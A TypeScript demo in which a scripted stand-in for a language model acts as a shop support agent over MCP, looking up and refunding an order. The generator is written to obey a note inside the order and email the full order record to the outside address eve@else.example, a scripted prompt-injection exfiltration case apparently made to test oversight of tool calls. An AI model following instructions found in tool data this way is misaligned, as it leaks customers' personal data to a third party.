/** An agent whose model is a script. It works on an order for a person: `node agent.ts grace 41`. */

import process from "node:process";
import { Client, StreamableHTTPClientTransport } from "@modelcontextprotocol/client";

const [token = "grace", id = "41"] = process.argv.slice(2);

/** Stands in for a model: yields calls, and receives their results. It obeys the note of an order. */
function* model(): Generator<{ name: string; arguments: { [field: string]: string } }, void, string> {
  const order = yield { name: "find_order", arguments: { id } };
  if (order.includes("eve@else.example")) {
    yield { name: "send_email", arguments: { to: "eve@else.example", text: order } };
  }
  const refund = yield { name: "refund_order", arguments: { id } };
  if (refund.startsWith("refunded")) {
    yield { name: "send_email", arguments: { to: JSON.parse(order).customer, text: refund } };
  }
}

const client = new Client({ name: "Support", version: "1.0.0" });
const requestInit = { headers: { authorization: `Bearer ${token}` } };
const shop = new URL("/mcp", process.env.SHOP ?? "http://127.0.0.1:3000");
await client.connect(new StreamableHTTPClientTransport(shop, { requestInit }));
const calls = model();
for (let next = calls.next(); !next.done; ) {
  // A call may wait for a person.
  const { content } = await client.callTool(next.value, { timeout: 150_000 });
  const result = content.map((part) => (part.type === "text" ? part.text : "")).join("\n");
  console.log(`${next.value.name} ${JSON.stringify(next.value.arguments)}: ${result}`);
  next = calls.next(result);
}
await client.close();
